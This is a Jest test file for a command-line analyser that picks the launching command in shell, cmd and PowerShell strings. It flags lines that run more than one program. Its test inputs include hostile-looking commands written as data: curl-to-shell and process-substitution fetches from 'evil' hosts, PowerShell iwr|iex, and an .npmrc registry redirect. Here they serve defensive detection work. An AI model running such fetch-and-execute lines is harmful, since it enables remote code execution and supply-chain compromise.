import { describe, expect, it } from '@jest/globals'
import { type CommandLineSyntax, parseCommandList } from '../../src/resolve/command-line.js'
import {
  analyseCommand,
  pickLaunchingCommand,
  severalCommandsMatch,
  variablesSetBy
} from '../../src/resolve/launching-command.js'

function pick(line: string, syntax: CommandLineSyntax = 'posix') {
  return pickLaunchingCommand(parseCommandList(line, syntax)!, syntax)
}

function programs(line: string, syntax: CommandLineSyntax = 'posix'): string[] {
  return pick(line, syntax).runners.map((r) => r.program)
}

describe('pickLaunchingCommand', () => {
  it('skips set-up commands that run no code and names them', () => {
    expect(pick('cd x && export A=1; A=1; true; :; echo hi; sleep 1; node x.js')).toEqual({
      argv: ['node', 'x.js'],
      skipped: ['cd', 'export', 'environment assignment', 'true', ':', 'echo', 'sleep'],
      runners: [{ program: 'node', detail: '`node`', generated: false }]
    })
  })

  it('falls back to the first command when none runs code', () => {
    expect(pick('cd x && echo hi')).toEqual({
      argv: ['cd', 'x'],
      skipped: ['cd', 'echo'],
      runners: []
    })
  })

  it.each([
    // The reviewer's examples.
    ['source <(curl -s https://evil/x.sh) && npx -y good@1.0.0', ['source', '<(curl …)', 'npx']],
    ['npx -y good@1; npx -y evil-pkg', ['npx', 'npx']],
    // Every other construct that can run code.
    ['npx -y good@1\nnpx -y evil-pkg', ['npx', 'npx']],
    ['eval "$(curl -s https://x)" && npx -y good@1', ['eval', '$(curl)', 'npx']],
    ['. ./env.sh && npx -y good@1', ['.', 'npx']],
    ['curl -s https://x | sh; npx -y good@1', ['curl', 'sh', 'npx']],
    ['$(curl -s https://x) && npx -y good@1', ['$(…)', 'npx']],
    ['`curl -s https://x`; npx -y good@1', ['$(…)', 'npx']],
    ['X=$(curl -s https://x | sh) npx -y good@1', ['npx', '$(curl)']],
    ['cd "$(eval x)" && npx -y good@1', ['$(eval)', 'npx']],
    ['npx -y good@1 --config <(curl -s x)', ['npx', '<(curl …)']],
    ['echo "npx -y evil" | bash && npx -y good@1', ['bash', 'npx']],
    ['bash -c "curl x" && npx -y good@1', ['bash', 'npx']],
    ['source ~/.nvm/nvm.sh && nvm use 20 && node server.js', ['source', 'nvm', 'node']],
    ['node server.js 2>/dev/null | tee /tmp/log', ['node', 'tee']],
    ['npx good & npx evil', ['npx', 'npx']],
    // Review round 2 (c1, c15): every command substitution runs a program, wherever it is.
    ['echo $(node ./evil.js); npx -y semver@7.6.0', ['$(node)', 'npx']],
    ['export X=$(npx -y evil-pkg@1.0.0) && npx -y semver@7.6.0', ['$(npx)', 'npx']],
    ['echo $((1)) $(python3 evil.py) && npx -y semver@7.6.0', ['$(…)', '$(python3)', 'npx']],
    ['echo `node evil.js`; npx -y semver@7.6.0', ['$(node)', 'npx']],
    [': ${X:=$(node evil.js)}; npx -y semver@7.6.0', ['$(node)', 'npx']],
    ['set -- $(node evil.js); npx -y semver@7.6.0', ['$(node)', 'npx']],
    ['cd "$(node evil.js)" && npx -y semver@7.6.0', ['$(node)', 'npx']],
    ['ulimit -c $(python3 evil.py); npx -y semver@7.6.0', ['$(python3)', 'npx']],
    ['npx -y semver@7.6.0 --dir "$(node evil.js)"', ['npx', '$(node)']],
    // Corpus, now inverted: the substitution runs `git` / `op` besides the launch.
    [
      'cd "$(git rev-parse --show-toplevel)" && exec bash scripts/mcp-launch.sh',
      ['$(git)', 'bash']
    ],
    [
      "TODOIST_API_KEY=$(op read 'op://Personal/x/y') mise exec bun@1 -- bun index.js",
      ['mise', '$(op)']
    ],
    // A set-up command that writes a file can change what runs next (`.npmrc` → registry).
    ['echo registry=https://evil/ > .npmrc; npx -y semver@7.6.0', ['echo > file', 'npx']],
    // A set-up command by path is a script, not the builtin.
    ['./echo hi; npx -y semver@7.6.0', ['echo', 'npx']]
  ])('%s → several: %j', (line, expected) => {
    const picked = pick(line)
    expect(picked.runners.map((r) => r.program)).toEqual(expected)
    expect(picked.runners.length).toBeGreaterThan(1)
  })

  it.each([
    // Corpus: the one launching command after `cd` (BuddhiLW/dotfiles).
    [
      'cd /home/ramanujan/PP/funeraria/clojure-mcp && clojure -X:mcp :port 7888',
      ['clojure', '-X:mcp', ':port', '7888']
    ],
    ['/bin/echo starting; cd /srv && node x.js 2>/dev/null', ['node', 'x.js']],
    ["X='$HOME/x' node x.js", ['X=$HOME/x', 'node', 'x.js']],
    ['if true; then npx -y good@1; fi', ['npx', '-y', 'good@1']],
    ['node server.js > /tmp/log 2>&1', ['node', 'server.js']],
    ['echo starting; sleep 1; npx -y good@1', ['npx', '-y', 'good@1']]
  ])('%s → one launching command', (line, argv) => {
    const picked = pick(line)
    expect(picked.argv).toEqual(argv)
    expect(picked.runners).toHaveLength(1)
  })

  it('reads cmd and PowerShell set-up commands', () => {
    expect(pick('@echo off & set A=1 & cd C:\\srv & node x.js', 'cmd')).toMatchObject({
      argv: ['node', 'x.js'],
      skipped: ['echo', 'set', 'cd']
    })
    expect(pick("$env:LOG = 'debug'; $x='y'; npx -y pkg@1.0.0", 'powershell')).toMatchObject({
      argv: ['npx', '-y', 'pkg@1.0.0'],
      skipped: ['assignment', 'assignment']
    })
    expect(programs('iwr https://evil | iex; npx -y good@1', 'powershell')).toEqual([
      'iwr',
      'iex',
      'npx'
    ])
    expect(programs('$s = iwr https://evil; npx -y good@1', 'powershell')).toEqual(['iwr', 'npx'])
    expect(programs('call x.bat & npx -y good@1', 'cmd')).toEqual(['x', 'npx'])
    // PowerShell subexpressions and array subexpressions run code (review: c15).
    expect(programs('$(calc); npx -y semver@7.6.0', 'powershell')).toEqual(['$(…)', 'npx'])
    expect(programs("npx -y semver@7.6.0 @(iex 'calc')", 'powershell')).toEqual(['npx', '$(iex)'])
    expect(programs("echo $(iex 'calc'); npx -y semver@7.6.0", 'powershell')).toEqual([
      '$(iex)',
      'npx'
    ])
    // cmd has no substitution syntax: `$(` there is text.
    expect(programs('echo $(x) & npx -y semver@7.6.0', 'cmd')).toEqual(['npx'])
  })

  it('describes what it found without argument values', () => {
    const { runners } = pick(
      'source <(curl -s https://evil/x.sh?token=s3cr3t) && curl x | sh && npx -y good@1.0.0'
    )
    const details = runners.map((r) => r.detail)
    expect(details).toEqual([
      '`source` runs a script in the shell',
      'a process substitution runs `curl`',
      '`curl`',
      '`sh` runs code read from a pipe',
      '`npx`'
    ])
    expect(details.join(' ')).not.toContain('s3cr3t')
  })
})

describe('analyseCommand', () => {
  it('labels commands that run no code', () => {
    const label = (words: string[], syntax: CommandLineSyntax = 'posix') =>
      analyseCommand({ words, pipedInto: false, processSubstitutions: [], redirects: [] }, syntax)
        .setup
    expect(label(['cd', 'x'])).toBe('cd')
    expect(label(['A=1', 'B=2'])).toBe('environment assignment')
    expect(label(['$x=1'], 'powershell')).toBe('assignment')
    expect(label(['Set-Location', 'C:\\x'], 'powershell')).toBe('set-location')
    expect(label(['source', '.venv/bin/activate'])).toBeNull()
    expect(label(['nvm', 'use', '20'])).toBeNull()
    expect(label(['FOO=1', 'node', 'x.js'])).toBeNull()
  })

  it('does not loop on deeply nested command substitutions', () => {
    const nested = '$('.repeat(50) + 'eval x' + ')'.repeat(50)
    const found = analyseCommand(
      { words: ['cd', nested], pipedInto: false, processSubstitutions: [], redirects: [] },
      'posix'
    )
    expect(found.runners).toHaveLength(1)
    expect(found.runners[0]!.generated).toBe(true)
  })
})

describe('variablesSetBy', () => {
  it('collects what set-up commands export, in each syntax', () => {
    const posix = 'export NPM_CONFIG_REGISTRY=https://r.example/ A=1; B=2; unset A; npx x'
    expect(variablesSetBy(parseCommandList(posix, 'posix')!, 'posix')).toEqual({
      NPM_CONFIG_REGISTRY: 'https://r.example/',
      B: '2'
    })
    expect(variablesSetBy(parseCommandList('set A=1 & set /a B=2 & npx x', 'cmd')!, 'cmd')).toEqual(
      {
        A: '1'
      }
    )
    const ps = "$env:UV_INDEX_URL = 'https://i.example/simple'; uvx pkg"
    expect(variablesSetBy(parseCommandList(ps, 'powershell')!, 'powershell')).toEqual({
      UV_INDEX_URL: 'https://i.example/simple'
    })
  })
})

describe('severalCommandsMatch', () => {
  it('gives an unknown identity named after the first program, with what was found', () => {
    const { runners } = pick('source <(curl -s https://evil/x.sh) && npx -y good@1.0.0')
    const match = severalCommandsMatch({ where: 'the `bash -c` string', runners })
    expect(match.package).toEqual({
      ecosystem: 'unknown',
      name: 'source',
      versionSpec: null,
      version: null,
      pinned: false,
      purl: null,
      launcher: null,
      resolution: { status: 'n/a', message: 'runs several commands: source, <(curl …), npx' }
    })
    expect(match.notes).toEqual([
      'the `bash -c` string runs 3 commands that can run code: `source` runs a script in the ' +
        'shell; a process substitution runs `curl`; `npx`. Only a single launching command ' +
        '(after set-up commands such as cd or export) can be identified, so what this entry runs ' +
        'is not identified and cannot be graded'
    ])
  })
})
